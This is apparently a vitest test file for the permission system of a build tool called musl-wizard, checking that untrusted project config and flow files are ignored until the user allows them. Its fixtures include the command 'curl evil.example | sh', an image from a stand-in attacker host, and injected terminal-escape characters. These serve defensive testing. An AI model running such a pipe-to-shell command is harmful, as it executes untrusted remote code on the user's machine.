import { chmodSync, cpSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type AllowFlags, run as allow } from '../../src/commands/allow.js';
import { run as flow } from '../../src/commands/flow.js';
import { run as recipe } from '../../src/commands/recipe.js';
import { run as status } from '../../src/commands/status.js';
import { findSetup } from '../../src/engine/find-setup.js';
import { findTrees, forestOf } from '../../src/engine/find-trees.js';
import { steeringFiles } from '../../src/engine/steering.js';
import type { UserError } from '../../src/errors.js';
import { configFolder } from '../../src/settings/paths.js';
import { testContext } from '../support/context.js';

let base = '';
let cwd = '';
let configDir = '';
beforeEach(() => {
  base = mkdtempSync(join(tmpdir(), 'mw-allow-'));
  cwd = join(base, 'project');
  configDir = join(base, 'config');
  mkdirSync(join(cwd, '.musl-wizard/flows'), { recursive: true });
  writeFileSync(join(cwd, 'main.c'), 'int main(void) { return 0; }\n');
});
afterEach(() => rmSync(base, { recursive: true }));

const team = (options: object = { image: 'evil.example/alpine:1', network: 'host' }) =>
  writeFileSync(
    join(cwd, 'musl-wizard.json'),
    `${JSON.stringify({ schema: 'musl-wizard.project/1', rung: 'alpine', upx: true, options })}\n`,
  );
const tree = (command = 'curl evil.example | sh') =>
  writeFileSync(
    join(cwd, '.musl-wizard/flows/theirs.yaml'),
    JSON.stringify({
      flow: 'theirs',
      title: 'Theirs',
      about: 'A tree from somewhere.',
      start: 'go',
      nodes: {
        go: {
          try: 'alpine',
          options: { image: 'evil.example/alpine:2' },
          to: { passed: 'end', failed: 'end', blocked: 'end', skipped: 'end' },
        },
        end: { done: 'remedy', because: 'It is over.', commands: [command] },
      },
    }),
  );
const here = () => testContext({ cwd, configDir, env: { PATH: process.env.PATH, HOME: base } });
const allowed = async (flags: AllowFlags = {}) => {
  const { context, written } = here();
  const code = await allow(context, [], { ...flags, json: true });
  return { code, err: written.err, files: JSON.parse(written.out).files };
};
const setupUsed = async () => (await findSetup(configDir, cwd)).found?.setup ?? null;

describe("a project's file that steers", () => {
  it.each([
    ['--config-dir', () => ({ configDir: join(cwd, 'settings') })],
    ['--config-dir through a link', () => ({ configDir: join(base, 'link') })],
    ['HOME', () => ({ env: { PATH: process.env.PATH, HOME: join(cwd, 'home') } })],
    ['HOME, the project itself', () => ({ env: { PATH: process.env.PATH, HOME: cwd } })],
    ['XDG_CONFIG_HOME', () => ({ env: { PATH: process.env.PATH, HOME: base, XDG_CONFIG_HOME: join(cwd, 'config') } })],
  ])('is not allowed by what is in the project, where %s leads there', async (_, settings) => {
    team();
    tree();
    mkdirSync(join(cwd, 'settings'));
    symlinkSync(join(cwd, 'settings'), join(base, 'link'));
    const where = () => testContext({ cwd, ...settings() });
    const folder = configFolder(where().context.env, where().context.configDir);
    // As a stranger plants them: with the hashes that every user has.
    for (const { content } of await steeringFiles(folder, cwd)) {
      mkdirSync(join(folder, 'allowed'), { recursive: true });
      writeFileSync(join(folder, 'allowed', content?.hash ?? ''), '');
    }
    for (const name of ['flows', 'allowed']) mkdirSync(join(folder, name), { recursive: true });
    cpSync(join(cwd, '.musl-wizard/flows/theirs.yaml'), join(folder, 'flows/own.yaml'));
    expect(await steeringFiles(folder, cwd)).toEqual([
      expect.objectContaining({ permission: 'unasked', unheard: expect.stringContaining('inside the project folder') }),
      expect.objectContaining({ permission: 'unasked' }),
    ]);
    expect((await findSetup(folder, cwd)).found).toBeNull();
    expect(forestOf(await findTrees({ cwd, config: folder })).get('theirs')).toBeUndefined();
    await expect(allow(where().context, [], {})).rejects.toThrow(
      expect.objectContaining({ evidence: [expect.stringContaining('inside the project folder')] }),
    );
    const { context, written } = where();
    await status(context, [], {});
    expect(written.err).toMatch(/a permission does not count: .* is inside the project folder/);
  });

  it.each([
    ['musl-wizard.json', 'musl-wizard.json'],
    ['.musl-wizard/flows/theirs.yaml', '.musl-wizard/flows/theirs.yaml'],
    ['.musl-wizard', '.musl-wizard/flows/theirs.yaml'],
  ])('is not read where %s is a link that leads out of the project, and nothing of it is shown', async (link, path) => {
    const outside = join(base, 'outside');
    team();
    tree();
    cpSync(cwd, outside, { recursive: true });
    writeFileSync(join(outside, path), 'machine example.org password sesame\n');
    rmSync(cwd, { recursive: true });
    mkdirSync(join(cwd, link, '..'), { recursive: true });
    symlinkSync(join(outside, link), join(cwd, link));
    const { code, err, files } = await allowed();
    expect(files).toEqual([expect.objectContaining({ path, hash: null, allowed: false })]);
    expect({ code, shown: err.includes('sesame') }).toEqual({ code: 1, shown: false });
    expect(err).toContain('a link that leads out of the project');
  });

  it('is ignored before it is allowed, and used after it; its change asks again; a revoked one is ignored', async () => {
    team();
    expect(await setupUsed()).toBeNull();
    expect(await allowed()).toMatchObject({ code: 0, files: [{ path: 'musl-wizard.json', allowed: true }] });
    expect(await setupUsed()).toMatchObject({ rung: 'alpine', options: { network: 'host' } });
    team({ image: 'other.example/alpine:1' });
    expect(await setupUsed()).toBeNull();
    team();
    expect(await setupUsed()).toMatchObject({ rung: 'alpine' });
    expect(await allowed({ revoke: true })).toMatchObject({ code: 0, files: [{ allowed: false }] });
    expect(await setupUsed()).toBeNull();
  });

  it('is shown whole, with what it sets, before it is allowed', async () => {
    team({ image: 'evil.example/alpine:1', network: 'host', arch: 'aarch64' });
    writeFileSync(join(cwd, 'musl-wizard.json'), ' \u202e\x1b[2J', { flag: 'a' });
    const broken = await allowed();
    expect(broken).toMatchObject({ code: 1, files: [{ allowed: false, problem: 'it is not JSON' }] });
    expect(broken.err).toContain('\\u{202e}\\u{1b}[2J');
    team({ image: 'evil.example/alpine:1', network: 'host', arch: 'aarch64' });
    const { err } = await allowed();
    expect(err).toContain('rung: alpine');
    expect(err).toContain('packs with UPX');
    expect(err).toContain('image: evil.example/alpine:1');
    expect(err).toContain('network: host');
    expect(err).toContain('architecture: aarch64');
    expect(err).toContain('| {"schema":"musl-wizard.project/1"');
  });

  it('is named by status and recipe while it is ignored, with what it would set and the command', async () => {
    team();
    const { context, written } = here();
    expect(await status(context, [], { json: true })).toBe(1);
    expect(JSON.parse(written.out)).toMatchObject({
      setup: null,
      teamFile: { state: 'ignored', path: 'musl-wizard.json' },
    });
    const lines =
      /musl-wizard\.json in this folder is ignored: [^\n]*\n {2}rung: alpine\n[\s\S]*image: evil\.example[\s\S]*→ musl-wizard allow/;
    expect(written.err).toMatch(lines);
    const second = here();
    await recipe(second.context, ['alpine'], {});
    expect(second.written.err).toMatch(lines);
    expect(second.written.out).not.toContain('evil.example');
    await allowed();
    const third = here();
    await recipe(third.context, ['alpine'], {});
    expect(third.written.out).toContain('evil.example/alpine:1');
    expect(third.written.err).toContain('which you allowed, sets rung: alpine; packs with UPX; image: evil.example');
  });

  it('as a tree is listed as ignored, not walked by name or by path, with what it would do', async () => {
    tree();
    for (const word of ['theirs', '.musl-wizard/flows/theirs.yaml']) {
      const error = (await flow(here().context, ['run', word], { yes: true }).catch((e) => e)) as UserError;
      expect(error.message).toMatch(/is ignored: you have not allowed/);
      expect(error.evidence).toContain('tries alpine with {"image":"evil.example/alpine:2"}');
      expect(error.evidence).toContain('$ curl evil.example | sh');
      expect(error.nextSteps.join()).toContain('musl-wizard allow');
    }
    const { context, written } = here();
    await flow(context, ['list'], {});
    expect(written.out).toMatch(/theirs +ignored: not allowed; `musl-wizard allow` shows it and asks/);
    expect((await allowed()).files).toMatchObject([{ path: '.musl-wizard/flows/theirs.yaml', allowed: true }]);
    const second = here();
    await flow(second.context, ['list'], { json: true });
    expect(JSON.parse(second.written.out).trees).toContainEqual(
      expect.objectContaining({ name: 'theirs', origin: 'project', title: 'Theirs', allowed: true }),
    );
    tree('touch other');
    const error = (await flow(here().context, ['run', 'theirs'], {}).catch((e) => e)) as UserError;
    expect(error.message).toMatch(/is ignored/);
  });

  it('is not allowed by a list, and a permission that another user could have written counts for nothing', async () => {
    team();
    expect(await allowed({ list: true })).toMatchObject({ code: 1, files: [{ allowed: false }] });
    await allowed();
    expect(await setupUsed()).not.toBeNull();
    for (const name of readdirSync(join(configDir, 'allowed'))) chmodSync(join(configDir, 'allowed', name), 0o666);
    expect(await setupUsed()).toBeNull();
  });

  it('says of each file whether it is allowed', async () => {
    team();
    const said = async (flags: AllowFlags) => {
      const { context, written } = here();
      return { code: await allow(context, [], flags), last: written.out.trimEnd().split('\n').at(-1) };
    };
    expect(await said({ list: true })).toEqual({ code: 1, last: 'musl-wizard.json: not allowed, ignored' });
    await allowed();
    expect(await said({ list: true })).toEqual({ code: 0, last: 'musl-wizard.json: allowed' });
  });

  it('allows nothing where there is nothing', async () => {
    const { context, written } = here();
    expect(await allow(context, [], {})).toBe(0);
    expect(written.out).toMatch(/^Nothing to allow/);
  });
});
